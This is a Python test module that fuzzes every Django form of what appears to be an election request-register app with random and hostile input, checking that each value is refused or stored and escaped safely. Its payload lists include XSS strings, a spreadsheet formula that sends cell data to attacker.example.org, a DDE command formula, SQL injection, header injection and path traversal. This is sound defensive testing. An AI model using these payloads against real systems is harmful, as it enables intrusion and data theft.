"""Hostile input: every form of the project, driven through its real view with random and
hostile values (issue 6, item 5), by hypothesis.

For each example: never a server error (the test client re-raises any exception); either the
input is accepted, and what was typed is what was stored (Driver.stored, for the forms that
keep text), or it is refused with a clear message (a GOV.UK error summary on the page
re-rendered with what was typed, or an error message after a redirect) and not one row of the
database changed; and markup typed into any field never comes back unescaped.

The examples come from a seed chosen afresh for every run (so each run tries new inputs) and
printed with any failure: HOSTILE_INPUT_SEED=<seed> replays that run exactly.

The forms are found by walking each project app's `forms` module (`project_forms`), so a new
form fails test_every_form_has_a_driver until DRIVERS says which view and role use it.
"""

from __future__ import annotations

import os
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta

import pytest
from django import forms
from django.apps import apps
from django.contrib.messages import constants as message_levels
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.html import escape
from hypothesis import given, seed
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.forms import project_forms
from tests.security.conftest import World, client_for
from tests.security.helpers import changed_tables, table_counts

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen")]

EXAMPLES = 20  # per form; the whole module stays well under two minutes
# One seed per run, new each time unless given: HOSTILE_INPUT_SEED replays a failed run.
SEED = int(os.environ.get("HOSTILE_INPUT_SEED") or random.SystemRandom().randrange(2**32))

# --- what a hostile person types ---------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
# Never to be found as such in a response: markup typed by someone, rendered live.
RAW_MARKUP = [SCRIPT, "<img src=x onerror=alert(1)>"]
HOSTILE_TEXT = [
    SCRIPT,
    IMG,
    "<b onmouseover=alert(1)>hover</b>",
    "javascript:alert(1)",
    '=HYPERLINK("http://attacker.example.org/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "\t=1+1",
    "x\r\nBcc: victim@example.org",
    "x\nSubject: injected",
    "' OR 1=1; --",
    "Robert'); DROP TABLE requests_register_entry;--",
    "{{ 7*7 }} {% debug %}",
    "${reference.__class__} $name %s%n",
    "../../etc/passwd",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c \u200f\u200e",
    "Zoë Ñandú 北京 🙂",
    " ",
    "",
]
LONG = st.integers(min_value=300, max_value=20_000).map(lambda n: "A" * n)
ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=120)
TEXT = st.one_of(st.sampled_from(HOSTILE_TEXT), ANY_TEXT, LONG)
EMAIL = st.one_of(
    TEXT,
    st.sampled_from(
        [
            "x@example.org\r\nBcc: victim@example.org",
            "victim@example.org\nBcc: a@example.org",
            "a@b",
            f"{SCRIPT}@example.org",
            "a" * 300 + "@example.org",
            "alex@example.org",
        ]
    ),
)
WHEN = st.one_of(
    TEXT,
    st.sampled_from(
        [
            "2026-02-30T10:00",
            "0000-00-00T00:00",
            "99999-01-01T00:00",
            "2026-13-01T00:00",
            "1900-01-01T00:00",
            "2999-12-31T23:59",
            "2026-11-25T09:00",
            "2026-11-25",
            "1e309",
        ]
    ),
)
NUMBER = st.one_of(
    TEXT,
    st.sampled_from(
        [
            *["9" * 40, "-1", "0", "1e309", "NaN", "0x10", "2147483648", "-9" * 20],
            *["9223372036854775807", "9223372036854775808", "-9223372036854775809"],
        ]
    ),
    st.integers().map(str),
)
URL = st.one_of(
    TEXT, st.sampled_from(["javascript:alert(1)", "http://", "data:text/html,<script>x</script>"])
)
FILE_NAMES = [
    "letter.pdf",
    "tool.exe",
    "../../etc/passwd",
    f"{SCRIPT}.pdf",
    "a" * 300 + ".pdf",
    "report.pdf.exe",
    "notes.txt",
    "",
]
FILE_TYPES = [
    "application/pdf",
    "text/plain",
    "text/csv",
    "text/html",
    "image/png",
    "application/x-msdownload",
    "message/rfc822",
]
FILE_BODIES = st.one_of(
    st.sampled_from([b"%PDF-1.4\n%demo\n", b"MZ\x90\x00\x03", b"<script>alert(1)</script>", b""]),
    st.binary(max_size=300),
)


@st.composite
def upload(draw) -> SimpleUploadedFile:
    return SimpleUploadedFile(
        draw(st.sampled_from(FILE_NAMES)) or "unnamed",
        draw(FILE_BODIES),
        content_type=draw(st.sampled_from(FILE_TYPES)),
    )


def _choice_values(form_field) -> list[str]:
    values = []
    for value, _label in form_field.choices:
        value = getattr(value, "value", value)  # ModelChoiceIteratorValue
        if isinstance(value, list | tuple):  # optgroups
            continue
        values.append("" if value is None else str(value))
    return values


def value_strategy(form_field) -> st.SearchStrategy:
    """Return hostile (and some valid) values for a form field, by its type."""
    if isinstance(form_field, forms.FileField):
        many = getattr(form_field.widget, "allow_multiple_selected", False)
        return st.lists(upload(), max_size=2 if many else 1)
    if isinstance(form_field, forms.ModelMultipleChoiceField | forms.MultipleChoiceField):
        valid = _choice_values(form_field)
        item = st.one_of(st.sampled_from(valid), TEXT, NUMBER) if valid else TEXT
        return st.lists(item, max_size=3)
    if isinstance(form_field, forms.ChoiceField | forms.ModelChoiceField):
        valid = _choice_values(form_field)
        return st.one_of(st.sampled_from(valid), TEXT, NUMBER) if valid else TEXT
    if isinstance(form_field, forms.BooleanField):
        return st.one_of(st.sampled_from(["on", "", "false", "0"]), TEXT)
    if isinstance(form_field, forms.EmailField):
        return EMAIL
    if isinstance(form_field, forms.URLField):
        return URL
    if isinstance(form_field, forms.DateField | forms.DateTimeField):
        return WHEN
    if isinstance(form_field, forms.IntegerField | forms.DecimalField | forms.FloatField):
        return NUMBER
    return TEXT


# --- the forms of the project --------------------------------------------------------------------


# Forms never used on their own: each is the base of forms that are driven.
BASES = {
    "requests_register.forms.EntryForm": "base of LogEntryForm and EditEntryForm",
    "publishing.forms.VersionedForm": "base of the review forms; SubmitForm is exactly it",
}


@dataclass(frozen=True)
class Driver:
    """How a form reaches its view: the URL, who posts it, the form as the view builds it,
    known-good values (each example perturbs some fields), and how a refusal is shown:
    "page" (the form again, with a GOV.UK error summary) or "redirect" (an error message)."""

    url: Callable[[World], str]
    role: str
    form: Callable[[World], forms.BaseForm]
    base: Callable[[World], dict[str, object]] = lambda w: {}
    refusal: str = "page"
    # Fields whose typed text must be on the refused page; None: every visible text field.
    kept: tuple[str, ...] | None = None
    # The kept check is skipped when one of these was perturbed (the form it shows changes).
    kept_unless: tuple[str, ...] = ()
    # A valid submission answered 200 (a preview) rather than a redirect.
    preview: bool = False
    examples: int = EXAMPLES
    extra: dict = field(default_factory=dict)
    method: str = "post"  # "get" for a search form
    # Run first, inside the example's transaction: puts the object in the state the form is for.
    setup: Callable[[World], None] | None = None
    # After an accepted post, the stored text of each field, read back from the database: it
    # must be what was typed (trimmed, as every form and service trims).
    stored: Callable[[World], dict[str, object]] | None = None


def _o(world: World, key: str):
    return world.objects[key]


def _url(name: str, **kwargs: Callable[[World], object]) -> Callable[[World], str]:
    return lambda w: reverse(name, kwargs={k: f(w) for k, f in kwargs.items()})


def _pk(key: str) -> Callable[[World], int]:
    return lambda w: w.objects[key].pk


def _version(key: str) -> Callable[[World], dict]:
    return lambda w: {"version": str(type(_o(w, key)).objects.get(pk=_o(w, key).pk).version)}


def _latest(model: str, *fields: str) -> Callable[[World], dict[str, object]]:
    """Read back `fields` of the newest row of `model` ("app.Model")."""

    def read(world: World) -> dict[str, object]:
        row = apps.get_model(model).objects.order_by("-pk").values_list(*fields).first()
        return dict(zip(fields, row or [None] * len(fields), strict=True))

    return read


def _of(key: str, *fields: str) -> Callable[[World], dict[str, object]]:
    """Read back `fields` of the world's object `key`, as stored now."""

    def read(world: World) -> dict[str, object]:
        obj = _o(world, key)
        row = type(obj).objects.filter(pk=obj.pk).values_list(*fields).get()
        return dict(zip(fields, row, strict=True))

    return read


def _entry_form(cls_name: str):
    def make(world: World):
        from requests_register import forms as f

        if cls_name == "LogEntryForm":
            return f.LogEntryForm(election=world.election)
        entry = _o(world, "entry")
        return f.EditEntryForm(instance=entry, election=world.election)

    return make


ENTRY_BASE = {
    "received_at": "2026-11-25T09:00",
    "channel": "email",
    "first_reached": "opcc",
    "kind": "information",
    "topic": SCRIPT,
    "question": '=HYPERLINK("http://attacker.example.org","Click") ' + IMG,
    "requester_type": "public",
    "requester_name": IMG,
    "requester_email": "alex@example.org",
    "acknowledge": "on",
}


def _drivers() -> dict[str, Driver]:
    from briefings import forms as bf
    from briefings import forms_held as bfh
    from candidates import forms as cf
    from candidates import rules as candidate_rules
    from dataprotection import forms as df
    from election_protocol import forms as ef
    from foi import forms as foi_forms
    from foi import services as foi_services
    from incidents import forms as inf
    from incidents import rules as incident_rules
    from lifecycle import forms as lf
    from mail_intake import forms as mf
    from paro import forms as paf
    from protocol import forms as prf
    from publishing import forms as pf
    from requests_register import forms as rf
    from requests_register import forms_more as rfm
    from security import forms as sf
    from security import services as security_services

    def review(name: str, cls, role: str, prefix, key="public_entry", setup=None, **base):
        def make(world: World):
            return cls(prefix=prefix(world) if callable(prefix) else prefix)

        def good(world: World):
            return {**_version(key)(world), **base}

        kwargs = {"pk": _pk(key)}
        if name == "publishing:restore":
            kwargs["redaction_pk"] = _pk("redaction")
        if name.endswith("_correction"):
            kwargs["correction_pk"] = _pk("correction")
        return Driver(_url(name, **kwargs), role, make, good, setup=setup)

    def submitted(world: World) -> None:
        # Approve and return act on an entry awaiting approval (prepared by the SPOC).
        from publishing import services as publishing

        publishing.submit_for_approval(_o(world, "public_entry").pk, world.users["spoc"])

    def foi_driver(name: str, cls, role: str = "spoc", setup=None, stored=None, **base):
        """An FOI step on the demo's FOI request whose clock is running (foi.views)."""
        return Driver(
            _url(f"foi:{name}", pk=_pk("entry_foi_open")),
            role,
            lambda w: cls(prefix=name),
            lambda w: {k: v(w) if callable(v) else v for k, v in base.items()},
            setup=setup,
            stored=stored,
        )

    def foi_refused(world: World) -> None:
        foi_services.refuse_with_exemptions(
            _o(world, "entry_foi_open").pk, exemptions=["40"], reason="Personal data.",
            by=world.users["ce"], may_approve=True,
        )  # fmt: skip

    def foi_under_review(world: World) -> None:
        foi_refused(world)
        foi_services.request_review(
            _o(world, "entry_foi_open").pk, requested_on=date(2026, 11, 26), grounds="Unfair.",
            by=world.users["spoc"],
        )  # fmt: skip

    def foi_asked(world: World) -> None:
        foi_services.ask_clarification(
            _o(world, "entry_foi_open").pk, question="Which year?", by=world.users["spoc"]
        )

    def foi_held_by_police(world: World) -> None:
        foi_services.set_holder(
            _o(world, "entry_foi_open").pk, holder="police", by=world.users["spoc"]
        )

    def foi_extension_date(world: World) -> str:
        return f"{_o(world, 'entry_foi_open').target_date + timedelta(days=7):%Y-%m-%d}"

    foi_drivers = {
        "foi.forms.HolderForm": foi_driver("holder", foi_forms.HolderForm, holder="police"),
        "foi.forms.ClarifyForm": foi_driver(
            "clarify",
            foi_forms.ClarifyForm,
            stored=_latest("foi.Clarification", "question"),
            question=SCRIPT,
        ),
        "foi.forms.ClarifiedForm": foi_driver(
            "clarified",
            foi_forms.ClarifiedForm,
            setup=foi_asked,
            answered_on="2026-11-26",
            answer=SCRIPT,
        ),
        "foi.forms.ExtendForm": foi_driver(
            "extend",
            foi_forms.ExtendForm,
            new_date=foi_extension_date,
            exemptions=["31"],
            reason=SCRIPT,
        ),
        "foi.forms.RefuseForm": foi_driver(
            "refuse", foi_forms.RefuseForm, role="ce", exemptions=["40"], reason=SCRIPT
        ),
        "foi.forms.DisclosedForm": foi_driver(
            "disclosed",
            foi_forms.DisclosedForm,
            setup=foi_held_by_police,
            their_reference=IMG,
            disclosed_on="2026-11-25",
            text=SCRIPT,
        ),
        "foi.forms.ReviewForm": foi_driver(
            "review",
            foi_forms.ReviewForm,
            setup=foi_refused,
            requested_on="2026-11-26",
            grounds=SCRIPT,
        ),
        "foi.forms.ReviewDecisionForm": foi_driver(
            "review_decision",
            foi_forms.ReviewDecisionForm,
            role="ce",
            setup=foi_under_review,
            outcome="upheld",
            notes=SCRIPT,
        ),
    }

    return foi_drivers | {
        "election_protocol.forms.NonWorkingDayForm": Driver(
            _url("non_working_days"),
            "spoc",
            lambda w: ef.NonWorkingDayForm(election=w.election),
            lambda w: {"date": "2026-12-01", "kind": "office_closure", "reason": SCRIPT},
            stored=_latest("election_protocol.NonWorkingDay", "reason"),
        ),
        "candidates.forms.CandidateForm": Driver(
            _url("candidates:create"),
            "spoc",
            lambda w: cf.CandidateForm(),
            lambda w: {"name": SCRIPT, "emails": "new@example.org", "agent_name": IMG},
            stored=_latest("candidates.Candidate", "name", "agent_name"),
        ),
        "candidates.forms.StatusForm": Driver(
            _url("candidates:status", pk=_pk("candidate")),
            "ce",
            lambda w: cf.StatusForm(
                current=candidate_rules.Status(_o(w, "candidate").status), may_correct=True
            ),
            lambda w: {"note": SCRIPT},
        ),
        "candidates.forms.SopnUploadForm": Driver(
            _url("candidates:sopn_import"),
            "spoc",
            lambda w: cf.SopnUploadForm(),
            preview=True,
        ),
        "requests_register.forms.LogEntryForm": Driver(
            _url("requests_register:log"),
            "spoc",
            _entry_form("LogEntryForm"),
            lambda w: dict(ENTRY_BASE),
            stored=_latest("requests_register.Entry", "topic", "question", "requester_name"),
        ),
        "requests_register.forms.EditEntryForm": Driver(
            _url("requests_register:edit", pk=_pk("entry")),
            "spoc",
            _entry_form("EditEntryForm"),
            lambda w: {**ENTRY_BASE, **_version("entry")(w)},
        ),
        "requests_register.forms.StatusForm": Driver(
            _url("requests_register:status", pk=_pk("entry")),
            "ce",
            lambda w: rf.StatusForm(entry=_o(w, "entry")),
            lambda w: {"status": "withdrawn", "reason": SCRIPT},
            kept=("reason",),  # "original" is shown only for a duplicate
            kept_unless=("status",),
        ),
        "requests_register.forms.DraftForm": Driver(
            _url("requests_register:draft", pk=_pk("entry")),
            "spoc",
            lambda w: rf.DraftForm(),
            lambda w: {"answer": SCRIPT},
            stored=_of("entry", "answer"),
        ),
        "requests_register.forms.AssignForm": Driver(
            _url("requests_register:assign", pk=_pk("entry")),
            "spoc",
            lambda w: rf.AssignForm(),
            lambda w: {"assignee": str(w.users["fl"].pk), "request": SCRIPT},
            refusal="redirect",
        ),
        "requests_register.forms.ContributionForm": Driver(
            _url("requests_register:contribute", pk=_pk("entry")),
            "pl",
            lambda w: rf.ContributionForm(),
            lambda w: {"body": SCRIPT},
            refusal="redirect",
            stored=_latest("requests_register.Contribution", "body"),
        ),
        "requests_register.forms.NoteForm": Driver(
            _url("requests_register:note", pk=_pk("entry")),
            "spoc",
            lambda w: rf.NoteForm(),
            lambda w: {"kind": "note", "body": IMG},
            refusal="redirect",
            stored=_latest("requests_register.Note", "body"),
        ),
        "requests_register.forms.AttachmentForm": Driver(
            _url("requests_register:attachments", pk=_pk("entry")),
            "spoc",
            lambda w: rf.AttachmentForm(),
            refusal="redirect",
        ),
        "requests_register.forms.EmailImportForm": Driver(
            _url("requests_register:log_from_email"),
            "spoc",
            lambda w: rf.EmailImportForm(),
            lambda w: {
                "source": "From: Alex <alex@example.org>\nSubject: x\r\nBcc: victim@example.org"
                f"\n\n{SCRIPT}"
            },
            preview=True,
        ),
        "requests_register.forms.DeputiesForm": Driver(
            _url("requests_register:deputies"),
            "ce",
            lambda w: rf.DeputiesForm(),
            lambda w: {"deputies": [str(w.users["spoc"].pk)]},
        ),
        "briefings.forms.PrepareBookingForm": Driver(
            _url("briefings:prepare", entry_pk=_pk("entry_meeting")),
            "spoc",
            lambda w: bf.PrepareBookingForm(election=w.election),
            lambda w: {
                "kind": "meeting_ce",
                "advance_questions": SCRIPT,
                "material_check_note": IMG,
            },
        ),
        "briefings.forms.StepForm": Driver(
            _url("briefings:step", pk=_pk("booking")),
            "cc",
            lambda w: bf.StepForm(),
            lambda w: {"status": "confirmed", "expected_status": "approved", "reason": SCRIPT},
            kept=("reason",),
            kept_unless=("status",),
        ),
        "briefings.forms.EventForm": Driver(
            _url("briefings:events"),
            "spoc",
            lambda w: bf.EventForm(),
            lambda w: {
                "title": SCRIPT,
                "starts_at": "2026-12-01T18:00",
                "ends_at": "2026-12-01T20:00",
                "place": IMG,
                "audience": "declared",
                "capacity": "20",
            },
            stored=_latest("briefings.BriefingEvent", "title", "place"),
        ),
        "briefings.forms.QuestionLinkForm": Driver(
            _url("briefings:event_action", pk=_pk("event"), action=lambda w: "question"),
            "spoc",
            lambda w: bf.QuestionLinkForm(),
            lambda w: {"reference": _o(w, "entry").reference},
            refusal="redirect",
        ),
        "briefings.forms.NotesForm": Driver(
            _url("briefings:event_action", pk=_pk("event"), action=lambda w: "notes"),
            "spoc",
            lambda w: bf.NotesForm(),
            lambda w: {"notes": SCRIPT, **_version("event")(w)},
            stored=_of("event", "notes"),
        ),
        # Issue 13: events changed and cancelled, material, the briefing page, the PARO.
        "briefings.forms.EventEditForm": Driver(
            _url("briefings:event_edit", pk=_pk("event")),
            "spoc",
            lambda w: bf.EventEditForm(),
            lambda w: {
                "title": SCRIPT,
                "starts_at": "2026-12-01T18:00",
                "ends_at": "2026-12-01T20:00",
                "place": IMG,
                "audience": "declared",
                "capacity": "20",
                "change_note": SCRIPT,
                **_version("event")(w),
            },
            stored=_of("event", "title", "place", "change_note"),
        ),
        "briefings.forms.CancelEventForm": Driver(
            _url("briefings:event_cancel", pk=_pk("event")),
            "spoc",
            lambda w: bf.CancelEventForm(),
            lambda w: {"reason": SCRIPT, **_version("event")(w)},
            stored=lambda w: {"reason": _of("event", "cancelled_reason")(w)["cancelled_reason"]},
        ),
        "briefings.forms.MaterialForm": Driver(
            _url("briefings:materials"),
            "spoc",
            lambda w: bf.MaterialForm(),
            lambda w: {
                "title": SCRIPT,
                "topic": IMG,
                "summary": SCRIPT,
                "url": "https://example.org/briefing.pdf",
            },
            stored=_latest("briefings.BriefingMaterial", "title", "topic", "summary"),
        ),
        "briefings.forms.ApproveMaterialForm": Driver(
            _url("briefings:material_approve", pk=_pk("material_draft")),
            "ce",
            lambda w: bf.ApproveMaterialForm(),
            lambda w: {"factual_check": SCRIPT},
            stored=_of("material_draft", "factual_check"),
        ),
        "briefings.forms.BriefingPageForm": Driver(
            _url("briefings:briefing_page"),
            "spoc",
            lambda w: bf.BriefingPageForm(),
            lambda w: {"text_en": SCRIPT, "text_cy": IMG},
            stored=_latest("briefings.CandidateBriefing", "text_en", "text_cy"),
        ),
        "paro.forms.ConsultationForm": Driver(
            _url("paro:consult", kind=lambda w: "entry", pk=_pk("entry")),
            "spoc",
            lambda w: paf.ConsultationForm(),
            lambda w: {
                "consulted_at": "2026-11-25T09:00",
                "consulted_by": SCRIPT,
                "paro_contact": IMG,
                "question": SCRIPT,
                "guidance": IMG,
            },
            stored=_latest("paro.ParoConsultation", "consulted_by", "question", "guidance"),
        ),
        "dataprotection.forms.RetentionPeriodForm": Driver(
            _url("dataprotection:retention_period"),
            "ce",
            lambda w: df.RetentionPeriodForm(),
            lambda w: {"months": "24"},
            refusal="redirect",
        ),
        "dataprotection.forms.LegalHoldForm": Driver(
            _url("dataprotection:legal_hold", pk=_pk("entry")),
            "spoc",
            lambda w: df.LegalHoldForm(),
            lambda w: {"reason": SCRIPT},
            refusal="redirect",
        ),
        "dataprotection.forms.SubjectSearchForm": Driver(
            _url("dataprotection:subject_access"),
            "spoc",
            lambda w: df.SubjectSearchForm(),
            lambda w: {"name": SCRIPT, "email": "x\r\nBcc: victim@example.org"},
            preview=True,
            method="get",
        ),
        "mail_intake.forms.AcceptForm": Driver(
            _url("mail_intake:accept", pk=_pk("mail")),
            "spoc",
            lambda w: mf.AcceptForm(election=w.election),
            lambda w: {
                "kind": "information",
                "topic": SCRIPT,
                "requester_type": "public",
                "requester_name": IMG,
                "acknowledge": "on",
            },
        ),
        "mail_intake.forms.DuplicateForm": Driver(
            _url("mail_intake:duplicate", pk=_pk("mail")),
            "spoc",
            lambda w: mf.DuplicateForm(election=w.election),
            lambda w: {"original": _o(w, "entry").reference, "note": SCRIPT},
        ),
        "mail_intake.forms.DismissForm": Driver(
            _url("mail_intake:dismiss", pk=_pk("mail")),
            "spoc",
            lambda w: mf.DismissForm(),
            lambda w: {"reason": "other", "note": SCRIPT},
        ),
        "security.forms.TokenForm": Driver(
            _url("security:two_factor_setup"),
            "spoc",
            lambda w: sf.TokenForm(),
            lambda w: {"code": "123456"},
            # The set-up page, once shown, holds the key being enrolled: that row is the
            # page's, not the code's.
            setup=lambda w: security_services.start_enrolment(w.users["spoc"]),
        ),
        "publishing.forms.RedactForm": review(
            "publishing:redact",
            pf.RedactForm,
            "spoc",
            "redact",
            field="answer",
            kind="other",
            reason=SCRIPT,
            text="the",
        ),
        "publishing.forms.RestoreForm": review(
            "publishing:restore",
            pf.RestoreForm,
            "spoc",
            lambda w: f"restore-{_o(w, 'redaction').pk}",
            reason=SCRIPT,
        ),
        "publishing.forms.SubmitForm": review("publishing:submit", pf.SubmitForm, "spoc", "submit"),
        "publishing.forms.ApproveForm": review(
            "publishing:approve",
            pf.ApproveForm,
            "ce",
            "approve",
            setup=submitted,
            factual_confirmed="on",
        ),
        "publishing.forms.ReturnForm": review(
            "publishing:return", pf.ReturnForm, "ce", "return", setup=submitted, reason=SCRIPT
        ),
        "publishing.forms.CorrectForm": review(
            "publishing:correct",
            pf.CorrectForm,
            "ce",
            "correct",
            key="public_entry_published",
            answer=SCRIPT,
            note=IMG,
        ),
        "publishing.forms.ApproveCorrectionForm": review(
            "publishing:approve_correction",
            pf.ApproveCorrectionForm,
            "spoc",
            "approve-correction",
            key="public_entry_corrected",
            factual_confirmed="on",
        ),
        "publishing.forms.RejectCorrectionForm": review(
            "publishing:reject_correction",
            pf.RejectCorrectionForm,
            "spoc",
            "reject-correction",
            key="public_entry_corrected",
            reason=SCRIPT,
        ),
        "incidents.forms.RecordIncidentForm": Driver(
            _url("incidents:record", kind=lambda w: "imagery"),
            "spoc",
            lambda w: inf.RecordIncidentForm(kind=incident_rules.Kind.IMAGERY, election=w.election),
            lambda w: {
                "title": SCRIPT,
                "description": IMG,
                "raised_at": "2026-11-25T09:00",
                "raised_by_type": "public",
                "service": "police",
                "candidates": [str(_o(w, "candidate").pk)],
                "source": SCRIPT,
            },
        ),
        "incidents.forms.StepForm": Driver(
            _url("incidents:step", pk=_pk("incident")),
            "spoc",
            lambda w: inf.StepForm(),
            lambda w: {"status": "closed", "expected_status": "awaiting_guidance", "reasons": IMG},
            kept=("reasons",),
            kept_unless=("status", "classification"),
        ),
        "incidents.forms.DecideForm": Driver(
            _url("incidents:decide", pk=_pk("incident_decide")),
            "cc",
            lambda w: inf.DecideForm(kind=incident_rules.Kind.IMAGERY),
            lambda w: {
                "expected_status": "awaiting_decision",
                "decision": "no_action",
                "profile": SCRIPT,
                "message": IMG,
                "publication": "Two leaflets.",
                "damage": "Low.",
                "reasons": SCRIPT,
            },
        ),
        "incidents.forms.StatementForm": Driver(
            _url("incidents:statement", pk=_pk("incident_factual")),
            "spoc",
            lambda w: inf.StatementForm(),
            lambda w: {"title": SCRIPT, "draft": IMG, "email_to": "news@example.org"},
        ),
        "incidents.forms.ConsultationForm": Driver(
            _url("incidents:consult", pk=_pk("incident")),
            "spoc",
            lambda w: inf.ConsultationForm(prefix="consult"),
            lambda w: {
                "consultee": "chief_constable",
                "asked_at": "2026-11-25T09:00",
                "answer": SCRIPT,
            },
            refusal="redirect",
        ),
        "incidents.forms.EvidenceForm": Driver(
            _url("incidents:add_evidence", pk=_pk("incident")),
            "spoc",
            lambda w: inf.EvidenceForm(prefix="evidence"),
            refusal="redirect",
        ),
        "incidents.forms.AssignForm": Driver(
            _url("incidents:assign", pk=_pk("incident")),
            "spoc",
            lambda w: inf.AssignForm(prefix="assign"),
            lambda w: {"assignee": str(w.users["fl"].pk)},
            refusal="redirect",
        ),
        "incidents.forms.SettingsForm": Driver(
            _url("incidents:settings"),
            "ce",
            lambda w: inf.SettingsForm(),
            lambda w: {
                "explanation": SCRIPT,
                **{f"{k.value}_amount": "12" for k in incident_rules.Kind},
                **{f"{k.value}_unit": "hours" for k in incident_rules.Kind},
            },
        ),
        # Publication deadline and the action taken (issue 13).
        "publishing.forms.NotForPublicationForm": Driver(
            _url("publishing:propose_not_for_publication", entry_pk=_pk("entry_ready")),
            "spoc",
            lambda w: pf.NotForPublicationForm(),
            lambda w: {"reason": "third_party", "detail": SCRIPT},
            stored=_latest("publishing.NotForPublication", "detail"),
        ),
        "publishing.forms.NotForPublicationDecisionForm": Driver(
            _url("publishing:not_for_publication", pk=_pk("nfp_proposed")),
            "ce",
            lambda w: pf.NotForPublicationDecisionForm(),
            lambda w: {"decision": "rejected", "note": SCRIPT},
            # The form's "note" is stored as the decision's note.
            stored=lambda w: {"note": _of("nfp_proposed", "decision_note")(w)["decision_note"]},
        ),
        "publishing.forms.ActionEntryForm": Driver(
            _url("publishing:prepare_action", entry_pk=_pk("entry_referred")),
            "spoc",
            lambda w: pf.ActionEntryForm(),
            lambda w: {"reason": ""},
        ),
        # Issue 13: owner, unassign and hand over, answer documents, meetings already held.
        "requests_register.forms_more.OwnerForm": Driver(
            _url("requests_register:owner", pk=_pk("entry")),
            "spoc",
            lambda w: rfm.OwnerForm(),
            lambda w: {"owner": str(w.users["spoc"].pk)},
            refusal="redirect",
        ),
        "requests_register.forms_more.UnassignForm": Driver(
            _url("requests_register:unassign", pk=_pk("entry")),
            "spoc",
            lambda w: rfm.UnassignForm(entry=_o(w, "entry")),
            lambda w: {"assignee": str(w.users["pl"].pk)},
            refusal="redirect",
        ),
        "requests_register.forms_more.ReassignForm": Driver(
            _url("requests_register:reassign", pk=_pk("entry")),
            "spoc",
            lambda w: rfm.ReassignForm(entry=_o(w, "entry")),
            lambda w: {
                "from_user": str(w.users["pl"].pk),
                "to_user": str(w.users["fl"].pk),
                "request": SCRIPT,
            },
            refusal="redirect",
        ),
        "requests_register.forms_more.AnswerDocumentForm": Driver(
            _url("requests_register:answer_documents", pk=_pk("entry")),
            "spoc",
            lambda w: rfm.AnswerDocumentForm(),
            refusal="redirect",
        ),
        "requests_register.forms_more.ProposeForm": Driver(
            _url("requests_register:propose", pk=_pk("entry")),
            "spoc",
            lambda w: rfm.ProposeForm(),
            lambda w: {"status": "refused", "no_reply_reason": "", "reason": SCRIPT},
            refusal="redirect",
        ),
        "requests_register.forms_more.DecideProposalForm": Driver(
            _url("requests_register:decide_proposal", pk=_pk("entry"), proposal_pk=_pk("proposal")),
            "ce",
            lambda w: rfm.DecideProposalForm(),
            lambda w: {"decision": "decline", "note": SCRIPT},
            refusal="redirect",
        ),
        "briefings.forms_held.HeldMeetingForm": Driver(
            _url("briefings:record_held"),
            "cc",
            lambda w: bfh.HeldMeetingForm(election=w.election),
            lambda w: {
                "candidate": str(_o(w, "candidate").pk),
                "kind": "meeting_cc",
                "held_at": "2026-11-25T09:00",
                "place": IMG,
                "host": "The Chief Constable",
                "topics": SCRIPT,
                "notes": SCRIPT,
            },
            stored=_latest("briefings.Booking", "place", "notes"),
        ),
        "publishing.forms.WithdrawForm": review(
            "publishing:withdraw",
            pf.WithdrawForm,
            "spoc",
            "withdraw",
            key="public_entry_published",
            reason=SCRIPT,
        ),
        # Issue 15: the election switcher, the close-down steps, the protocol document.
        "lifecycle.forms.ChooseElectionForm": Driver(
            _url("lifecycle:elections"),
            "spoc",
            lambda w: lf.ChooseElectionForm(),
            lambda w: {"election": str(w.election.pk)},
        ),
        "lifecycle.forms.StepForm": Driver(
            _url("lifecycle:closedown"),
            "ce",
            lambda w: lf.StepForm(),
            lambda w: {"step": "last_answers", "explanation": SCRIPT},
            # Before the poll closes (the world's moment) no step's form is on the page: the
            # refusal says when the close-down starts.
            kept=(),
        ),
        "protocol.forms.ProtocolVersionForm": Driver(
            _url("protocol:new_version"),
            "spoc",
            lambda w: prf.ProtocolVersionForm(),
            lambda w: {
                "title": SCRIPT,
                "text": IMG,
                "change_note": SCRIPT,
                "clauses": "register.four_eyes = " + IMG,
            },
        ),
        "protocol.forms.AcknowledgeForm": Driver(
            _url("protocol:acknowledge"),
            "pl",
            lambda w: prf.AcknowledgeForm(),
            lambda w: {"number": "2"},
            refusal="redirect",
        ),
    }


DRIVERS = _drivers()
FORMS = project_forms()


def test_every_form_has_a_driver():
    missing = sorted(set(FORMS) - set(DRIVERS) - set(BASES))
    assert not missing, (
        f"Form(s) {missing} are not driven by tests/security/test_hostile_input.py: add a "
        "Driver to DRIVERS saying which view and role post them (or to BASES if never used on "
        "its own)."
    )
    assert not (set(DRIVERS) | set(BASES)) - set(FORMS), "a driven form no longer exists"


# --- one example -----------------------------------------------------------------------------

TEXT_WIDGETS = (
    forms.TextInput,
    forms.Textarea,
    forms.EmailInput,
    forms.URLInput,
    forms.NumberInput,
    forms.DateInput,
    forms.DateTimeInput,
)


def _visible_text_fields(form: forms.BaseForm) -> list[str]:
    return [
        name
        for name, form_field in form.fields.items()
        if isinstance(form_field.widget, TEXT_WIDGETS)
        and not form_field.widget.is_hidden
        and not isinstance(form_field.widget, forms.PasswordInput)
    ]


def _messages(response) -> list:
    return list(get_messages(response.wsgi_request))


def _html(response) -> str:
    if response.get("Content-Type", "").startswith("text/html"):
        return response.content.decode("utf-8", "replace")
    return ""


def _post_data(world: World, driver: Driver, data: st.DataObject):
    form = driver.form(world)
    base = driver.base(world)
    names = list(form.fields)
    perturbed = data.draw(st.sets(st.sampled_from(names), max_size=3), label="perturbed")
    post: dict[str, object] = {}
    for name in names:
        if name in base and name not in perturbed:
            value = base[name]
        elif name in perturbed or isinstance(form.fields[name], forms.FileField):
            value = data.draw(value_strategy(form.fields[name]), label=name)
        else:
            continue
        post[form.add_prefix(name)] = value
    post.update(driver.extra)
    # A browser always sends the CSRF token (the test client does not check it): without it an
    # empty POST would read as no POST at all.
    post["csrfmiddlewaretoken"] = "browser"
    return form, post, perturbed


